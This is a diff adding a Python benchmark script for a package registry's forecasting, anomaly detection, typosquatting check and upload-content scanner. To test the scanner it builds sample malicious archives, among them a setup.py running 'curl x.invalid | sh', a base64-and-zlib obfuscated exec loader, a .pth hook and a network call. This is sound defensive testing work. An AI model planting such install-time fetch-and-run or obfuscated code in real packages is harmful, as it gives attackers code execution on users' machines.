@@ -1,0 +1,527 @@
+"""Forecasting, scaling hints, anomaly detection and upload checks (issue 16, H5's tables).
+
+    .venv/bin/python benchmarks/ml/bench_ml_ops.py [--quick] [--seed N]
+
+Traces: ``generate(seed=N)`` (14 days) to train and measure the forecasters on its held-out
+last 30%; the anomaly detectors are trained on the first 70% of that trace and measured on an
+independent ``generate(seed=N+1)`` (a held-out trace has all four attack kinds twice; the
+held-out 30% of one trace holds too few episodes to count). ``--quick``: 4-day traces with 400
+developer machines, and half-space trees on a 100k-request slice. Typosquatting: a list of real
+popular PyPI project names written here (names only) and the generated catalogue's names;
+content heuristics: the real wheels and sdists of the benchmark corpus (``make corpus``) when
+present, plus archives built here. Every table says its source.
+"""
+
+from __future__ import annotations
+
+import argparse
+import io
+import math
+import random
+import statistics
+import sys
+import tarfile
+import time
+import zipfile
+from pathlib import Path
+from typing import Any
+
+sys.path.insert(0, str(Path(__file__).resolve().parent.parent))
+
+from registry_core.ml import _anomaly, _content, _forecast, _scaling, _typosquat
+from registry_core.ml.traces import Trace, generate
+
+DAY = 86400.0
+
+# Real, popular PyPI projects (names are public facts; order roughly by downloads, from memory
+# of pypistats / the BigQuery top lists; the ranks do not matter here, the names do).
+REAL_TOP = """
+boto3 botocore urllib3 requests setuptools certifi charset-normalizer idna typing-extensions
+python-dateutil s3transfer packaging six aiobotocore numpy pyyaml s3fs fsspec pip cryptography
+cffi pycparser google-api-core pandas importlib-metadata pydantic zipp attrs jmespath
+protobuf rsa pyasn1 wheel platformdirs jinja2 markupsafe click pytz tomli colorama filelock
+virtualenv awscli googleapis-common-protos pydantic-core grpcio pyjwt wrapt cachetools
+google-auth pluggy pytest tzdata pyarrow jsonschema sqlalchemy psutil aiohttp yarl
+multidict frozenlist aiosignal async-timeout docutils requests-oauthlib oauthlib pyasn1-modules
+exceptiongroup iniconfig tqdm werkzeug flask itsdangerous scipy greenlet soupsieve
+beautifulsoup4 decorator pygments isodate lxml pillow openpyxl et-xmlfile rich markdown-it-py
+mdurl h11 httpcore httpx anyio sniffio websocket-client requests-toolbelt tenacity
+more-itertools distlib coverage pytest-cov mock matplotlib kiwisolver cycler fonttools
+pyparsing contourpy regex scikit-learn joblib threadpoolctl networkx sympy mpmath torch
+tensorflow keras h5py absl-py termcolor gast astunparse opt-einsum wrapt flatbuffers
+google-pasta tensorboard grpcio-status proto-plus google-cloud-storage google-cloud-core
+google-resumable-media google-crc32c azure-core azure-storage-blob msal portalocker
+paramiko bcrypt pynacl pyopenssl docker websockets uvicorn fastapi starlette gunicorn
+django djangorestframework celery kombu amqp vine billiard redis pymongo psycopg2
+psycopg2-binary mysqlclient pymysql alembic mako sqlparse black isort flake8 pycodestyle
+pyflakes mccabe mypy mypy-extensions pylint astroid tomlkit toml pre-commit identify
+nodeenv cfgv pyzmq tornado traitlets jupyter-core jupyter-client ipython ipykernel
+prompt-toolkit wcwidth parso jedi pexpect ptyprocess matplotlib-inline nest-asyncio
+debugpy notebook nbformat nbconvert bleach webencodings tinycss2 defusedxml pandocfilters
+mistune jsonpointer arrow python-json-logger argon2-cffi terminado send2trash
+prometheus-client pyrsistent fastjsonschema babel sphinx alabaster imagesize snowballstemmer
+sphinx-rtd-theme selenium trio outcome sortedcontainers hypothesis pytest-mock pytest-xdist
+execnet xlrd xlsxwriter lz4 zstandard brotli orjson ujson simplejson msgpack cloudpickle
+dill pyrfc3339 pysocks win32-setctime loguru structlog sentry-sdk opentelemetry-api
+opentelemetry-sdk deprecated importlib-resources backoff retry retrying typer shellingham
+pathspec tabulate prettytable python-dotenv humanfriendly coloredlogs marshmallow
+""".split()
+
+_ALPHA = "abcdefghijklmnopqrstuvwxyz0123456789-"
+
+
+def _table(head: list[str], rows: list[list[Any]]) -> str:
+    def fmt(v: Any) -> str:
+        if isinstance(v, float):
+            return "n/a" if math.isnan(v) else f"{v:.3f}" if abs(v) < 10 else f"{v:.1f}"
+        return str(v)
+
+    lines = ["| " + " | ".join(head) + " |", "|" + "---|" * len(head)]
+    lines += ["| " + " | ".join(fmt(v) for v in r) + " |" for r in rows]
+    return "\n".join(lines)
+
+
+def _trace(seed: int, quick: bool) -> Trace:
+    if quick:
+        return generate(seed=seed, days=4, clients=400)
+    return generate(seed=seed, days=14)
+
+
+# -- forecasting and scaling ------------------------------------------------------------------
+
+
+def _forecast_tables(trace: Trace, seed: int, quick: bool) -> str:
+    out = [
+        "### Forecast: request counts per (tenant, route), held-out last 30% of the trace",
+        "",
+        f"Trace `{trace.source}`, {len(trace.requests):,} requests; horizon 2 buckets (the next "
+        "whole bucket); MAE in requests per bucket and series; MAPE over non-zero buckets, sMAPE "
+        "over all (MAPE explodes on small counts, sMAPE gives 200% to any forecast of an empty "
+        "bucket); `total`: the sum over routes; coverage: share of held-out series-buckets at "
+        "or under the q0.95 upper forecast.",
+        "",
+    ]
+    rows = []
+    for bucket in (900.0,) if quick else (900.0, 3600.0):
+        metrics = _forecast.evaluate(trace, bucket_s=bucket, seed=seed)
+        for name, m in metrics.items():
+            rows.append(
+                [
+                    f"{bucket / 60:g} min",
+                    name,
+                    m["mae"],
+                    m["mape"],
+                    m["smape"],
+                    m["mae_total"],
+                    m["smape_total"],
+                    m["upper_coverage"],
+                ]
+            )
+    out.append(
+        _table(
+            [
+                "bucket",
+                "model",
+                "MAE",
+                "MAPE %",
+                "sMAPE %",
+                "total MAE",
+                "total sMAPE %",
+                "coverage",
+            ],  # fmt: skip
+            rows,
+        )
+    )
+    # scaling: replay each model's hints over the held-out time
+    reqs = trace.requests
+    origin = math.floor(reqs[0].time / DAY) * DAY
+    series = _forecast.bucket_counts(reqs, 900.0, origin=origin)
+    n = len(next(iter(series.values())))
+    split = int(n * 0.7)
+    totals = [sum(s[t] for s in series.values()) / 900.0 for t in range(split)]
+    per_worker = statistics.median(totals) / 2.0  # the median training bucket needs 2 workers
+    out += [
+        "",
+        "### Scaling hints on the held-out time (the hint for each bucket made before it starts)",
+        "",
+        f"Same trace; `per_worker_rps` = {per_worker:.3f} (the median training bucket needs 2 "
+        "workers), headroom 20%, no upper cap; static = the training peak plus headroom. "
+        "Under-provisioned: buckets whose load needed more workers than given.",
+        "",
+    ]
+    rows = []
+    for name in ("seasonal-mean", "ridge", "gbdt"):
+        art = _forecast.train(trace, seed=seed, models=[name])
+        fc = _forecast.Forecaster.from_artifact(art)
+        res = _scaling.replay_hints(
+            fc,
+            trace,
+            start=origin + split * 900.0,
+            per_worker_rps=per_worker,
+            max_workers=100_000,
+        )
+        rows.append(
+            [
+                name,
+                f"{res['under_hint']:.0f}/{res['buckets']:.0f}",
+                res["worker_shortfall_hint"],
+                res["worker_hours_hint"],
+                res["worker_hours_needed"],
+                res["worker_hours_static"],
+                f"{res['saved_vs_static']:.1%}",
+                f"{res['under_static']:.0f}/{res['buckets']:.0f} ({res['static_workers']:.0f} w)",
+            ]
+        )
+    out.append(
+        _table(
+            [
+                "hint from",
+                "under-provisioned",
+                "worker shortfall (sum)",
+                "worker-h hint",
+                "worker-h needed",
+                "worker-h static",
+                "saved vs static",
+                "static under",
+            ],
+            rows,
+        )
+    )
+    return "\n".join(out)
+
+
+# -- anomalies --------------------------------------------------------------------------------
+
+
+def _anomaly_tables(train_trace: Trace, test_trace: Trace, seed: int, quick: bool) -> str:
+    kinds = ("scraper", "credential_stuffing", "dependency_confusion", "download_spike")
+    rows_train = _anomaly.replay_features(train_trace.requests)
+    rows_test = _anomaly.replay_features(test_trace.requests)
+    results: dict[str, dict[str, float]] = {}
+    for det in _anomaly.DETECTORS:
+        tr_rows = rows_train
+        trace = train_trace
+        if det == "hst" and quick:  # river is ~100 us a request: a slice in quick mode
+            trace = Trace(train_trace.requests[:100_000], train_trace.catalogue,
+                          train_trace.episodes, train_trace.source)  # fmt: skip
+            tr_rows = rows_train[:100_000]
+        art = _anomaly.train(trace, seed=seed, detector=det, rows=tr_rows)
+        scorer = _anomaly.AnomalyScorer.from_artifact(art)
+        flags = [v >= scorer.threshold for v in _anomaly._scores(scorer, rows_test)]
+        results[det] = _anomaly._metrics(test_trace.requests, flags, test_trace)
+        results[det]["threshold"] = scorer.threshold
+    out = [
+        "### Anomaly detection: trained on 70% of one trace, measured on an independent trace",
+        "",
+        f"Train `{train_trace.source}`, test `{test_trace.source}` ({len(test_trace.requests):,} "
+        "requests, "
+        f"{sum(1 for r in test_trace.requests if r.label):,} labelled). Threshold: the best "
+        "per-request F1 on the training part (rules: fixed, score 1 = a rule fires). An "
+        "episode is found when one of its requests is flagged between its start and end.",
+        "",
+    ]
+    rows = []
+    for det, m in results.items():
+        rows.append(
+            [
+                det,
+                m["threshold"],
+                m["precision"],
+                m["recall"],
+                m["flagged_share"],
+                m["client_precision"],
+                m["client_recall"],
+                f"{m['episodes_found']:.0f}/{m['episodes']:.0f}",
+            ]
+        )
+    out.append(
+        _table(
+            [
+                "detector",
+                "threshold",
+                "precision",
+                "recall",
+                "flagged",
+                "client precision",
+                "client recall",
+                "episodes found",
+            ],
+            rows,
+        )  # fmt: skip
+    )
+    out += ["", "Recall per request and episodes found, per kind:", ""]
+    rows = []
+    for kind in kinds:
+        row: list[Any] = [kind]
+        for det in _anomaly.DETECTORS:
+            m = results[det]
+            row.append(m.get(f"recall.{kind}", math.nan))
+            row.append(
+                f"{m.get(f'episodes_found.{kind}', 0):.0f}/{m.get(f'episodes.{kind}', 0):.0f}"
+            )
+        rows.append(row)
+    head = ["kind"]
+    for det in _anomaly.DETECTORS:
+        head += [f"{det} recall", f"{det} episodes"]
+    out.append(_table(head, rows))
+    return "\n".join(out)
+
+
+# -- typosquatting and content ----------------------------------------------------------------
+
+
+def _random_typo(name: str, rng: random.Random) -> str:
+    """One uniformly random edit (not the check's own tables): insert, delete, substitute or
+    transpose, any character."""
+    i = rng.randrange(len(name))
+    op = rng.randrange(4)
+    c = rng.choice(_ALPHA)
+    if op == 0:
+        return name[:i] + c + name[i:]
+    if op == 1:
+        return name[:i] + name[i + 1 :]
+    if op == 2:
+        return name[:i] + c + name[i + 1 :]
+    j = min(i + 1, len(name) - 1)
+    return name[:i] + name[j] + name[i] + name[j + 1 :] if j > i else name
+
+
+def _typo_rows(popular: list[str], legit: list[str], known: set[str], seed: int) -> list[Any]:
+    check = _typosquat.TyposquatCheck(popular)
+    fp = [n for n in legit if check.find(n)]
+    rng = random.Random(seed)
+    tricks, random_edits = [], []
+    for name in popular:
+        variants = sorted({v for v, _ in _typosquat.typo_variants(name)} - known - {name})
+        tricks += rng.sample(variants, min(5, len(variants)))
+        for _ in range(5):
+            v = _random_typo(_typosquat.normalize_name(name), rng).strip("-")
+            if v and v not in known:
+                random_edits.append(v)
+    rec_t = sum(1 for v in tricks if check.find(v)) / len(tricks)
+    rec_r = sum(1 for v in random_edits if check.find(v)) / len(random_edits)
+    return [len(popular), len(legit), len(fp), 1 - len(fp) / len(legit), rec_t, rec_r, fp[:6]]
+
+
+def _typosquat_table(trace: Trace, seed: int) -> str:
+    real = list(dict.fromkeys(_typosquat.normalize_name(n) for n in REAL_TOP))
+    known = set(real)
+    rows = [["real PyPI names", *_typo_rows(real[:100], real[100:], known, seed)]]
+    deps = trace.catalogue.dependents
+    names = sorted(trace.catalogue.projects, key=lambda p: (-deps.get(p, 0), p))
+    gen_known = {_typosquat.normalize_name(n) for n in names}
+    rows.append(
+        [
+            f"catalogue of `{trace.source}`",
+            *_typo_rows(names[:100], names[100:1100], gen_known | known, seed),
+        ]
+    )
+    # time per check
+    check = _typosquat.TyposquatCheck(real)
+    t0 = time.perf_counter()
+    for n in real:
+        check.find(n + "x")
+    us = (time.perf_counter() - t0) / len(real) * 1e6
+    return "\n".join(
+        [
+            "### Typosquatting check on new project names",
+            "",
+            "Popular = the first 100 names (by dependents for the catalogue); legitimate = the "
+            "other names (none is a squat, so every finding is a false positive); recall on 5 "
+            "variants per popular name made by the check's own transformations and on 5 "
+            "uniformly random single edits (outside its tables too). Popular-name plugins such "
+            "as `requests-oauthlib` are not flagged: only the fixed affixes count.",
+            "",
+            _table(
+                [
+                    "names",
+                    "popular",
+                    "legitimate",
+                    "flagged",
+                    "precision on legit",
+                    "recall " "(transformations)",
+                    "recall (random edits)",
+                    "false positives (first)",
+                ],
+                rows,
+            ),  # fmt: skip
+            "",
+            f"Cost: {us:.0f} µs per name checked against {len(real)} popular names.",
+        ]
+    )
+
+
+def _archives() -> list[tuple[str, bytes, bool]]:
+    """(filename, bytes, malicious) built here with zipfile/tarfile."""
+    import base64
+    import zlib
+
+    def wheel(name: str, members: dict[str, bytes], tag: str = "py3-none-any") -> tuple[str, bytes]:
+        buf = io.BytesIO()
+        with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
+            zf.writestr(f"{name}/__init__.py", b"VALUE = 1\n")
+            zf.writestr(f"{name}-1.0.dist-info/METADATA", f"Name: {name}\nVersion: 1.0\n".encode())
+            for k, v in members.items():
+                zf.writestr(k, v)
+        return f"{name}-1.0-{tag}.whl", buf.getvalue()
+
+    def sdist(name: str, setup: bytes) -> tuple[str, bytes]:
+        buf = io.BytesIO()
+        with tarfile.open(fileobj=buf, mode="w:gz") as tf:
+            for path, data in (
+                (f"{name}-1.0/PKG-INFO", f"Name: {name}\nVersion: 1.0\n".encode()),
+                (f"{name}-1.0/setup.py", setup),
+            ):
+                info = tarfile.TarInfo(path)
+                info.size = len(data)
+                tf.addfile(info, io.BytesIO(data))
+        return f"{name}-1.0.tar.gz", buf.getvalue()
+
+    blob = base64.b64encode(zlib.compress(b"import os; os.system('id')" * 20)).decode()
+    return [
+        (
+            *wheel(
+                "m1",
+                {
+                    "m1/x.py": f"exec(__import__('zlib').decompress(__import__('base64')"
+                    f".b64decode('{blob}')))\n".encode()
+                },
+            ),
+            True,
+        ),  # fmt: skip
+        (*wheel("m2", {"m2-hook.pth": b"import m2.x\n"}), True),
+        (*wheel("m3", {"m3/bin": b"\x7fELF" + b"\0" * 100}), True),
+        (
+            *sdist("m4", b"import urllib.request\nurllib.request.urlopen('http://x.invalid')\n"),
+            True,
+        ),
+        (
+            *sdist(
+                "m5",
+                b"import os\nos.system('curl x.invalid | sh')\nfrom setuptools import setup\n"
+                b"setup()\n",
+            ),
+            True,
+        ),  # fmt: skip
+        (*wheel("ok1", {"ok1/util.py": b"def f():\n    return 1\n"}), False),
+        (*sdist("ok2", b"from setuptools import setup\nsetup(name='ok2')\n"), False),
+    ]
+
+
+def _content_table() -> str:
+    rows = []
+    built = _archives()
+    for filename, data, bad in built:
+        found = _content.scan_archive(io.BytesIO(data), filename)
+        rows.append(
+            [
+                filename,
+                "malicious" if bad else "clean",
+                ", ".join(sorted({f.rule for f in found})) or "-",
+            ]
+        )
+    corpus_note = "corpus absent (`make corpus`)"
+    try:
+        import _corpus
+
+        paths = [p for s in _corpus.series() for p in s.paths]
+    except Exception:
+        paths = []
+    total_bytes = 0
+    flagged: dict[str, list[str]] = {}
+    t0 = time.perf_counter()
+    for p in paths:
+        data = p.read_bytes()
+        total_bytes += len(data)
+        found = _content.scan_archive(io.BytesIO(data), p.name)
+        for f in found:
+            flagged.setdefault(f"{f.rule} ({f.severity})", []).append(p.name)
+    took = time.perf_counter() - t0
+    if paths:
+        corpus_note = (
+            f"{len(paths)} real PyPI wheels/sdists of the corpus ({total_bytes / 1e6:.1f} MB, "
+            f"{total_bytes / 1e6 / max(took, 1e-9):.0f} MB/s scanned): "
+            + (
+                "; ".join(f"{k}: {len(v)} ({v[0]})" for k, v in sorted(flagged.items()))
+                or "no finding"
+            )
+        )
+    return "\n".join(
+        [
+            "### Suspicious-content heuristics",
+            "",
+            _table(["archive (built here)", "truth", "rules fired"], rows),
+            "",
+            f"Real packages: {corpus_note}.",
+        ]
+    )
+
+
+# -- costs ------------------------------------------------------------------------------------
+
+
+def _costs(trace: Trace, seed: int) -> str:
+    reqs = trace.requests[:20_000]
+    rows = []
+
+    def per_req(fn: Any, items: list[Any]) -> float:
+        t0 = time.perf_counter()
+        for x in items:
+            fn(x)
+        return (time.perf_counter() - t0) / len(items) * 1e6
+
+    feats = _anomaly.StreamFeatures()
+    rows.append(["stream features (update)", per_req(feats.update, reqs)])
+    rrows = _anomaly.replay_features(reqs)
+    for det in _anomaly.DETECTORS:
+        kwargs: dict[str, Any] = {}
+        if det == "iforest":
+            import numpy as np
+
+            kwargs["forest"] = _anomaly.IsolationForest.fit(
+                np.asarray(rrows), seed=seed, n_trees=25
+            )
+        scorer = _anomaly.AnomalyScorer(det, threshold=2.0, **kwargs)
+        rows.append([f"score: {det}", per_req(scorer.score_row, rrows[:5000])])
+    fc = _forecast.Forecaster.from_artifact(_forecast.train(trace, seed=seed, models=["gbdt"]))
+    rows.append(["forecaster observe", per_req(fc.observe, reqs)])
+    t0 = time.perf_counter()
+    for i in range(50):
+        fc.forecast(reqs[-1].time + i * 900.0)
+    rows.append(["forecast (all series, gbdt)", (time.perf_counter() - t0) / 50 * 1e6])
+    return "\n".join(
+        [
+            "### Cost per request (µs, this machine, one thread)",
+            "",
+            f"First 20,000 requests of `{trace.source}`.",
+            "",
+            _table(["step", "µs"], rows),
+        ]
+    )
+
+
+def run(quick: bool = False, seed: int = 0) -> str:
+    trace = _trace(seed, quick)
+    test = _trace(seed + 1, quick)
+    parts = [
+        "## Forecasting, scaling, anomalies and upload checks (bench_ml_ops)",
+        "",
+        _forecast_tables(trace, seed, quick),
+        "",
+        _anomaly_tables(trace, test, seed, quick),
+        "",
+        _typosquat_table(trace, seed),
+        "",
+        _content_table(),
+        "",
+        _costs(trace, seed),
+    ]
+    return "\n".join(parts) + "\n"
+
+
+if __name__ == "__main__":
+    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
+    parser.add_argument("--quick", action="store_true")
+    parser.add_argument("--seed", type=int, default=0)
+    args = parser.parse_args()
+    print(run(quick=args.quick, seed=args.seed))
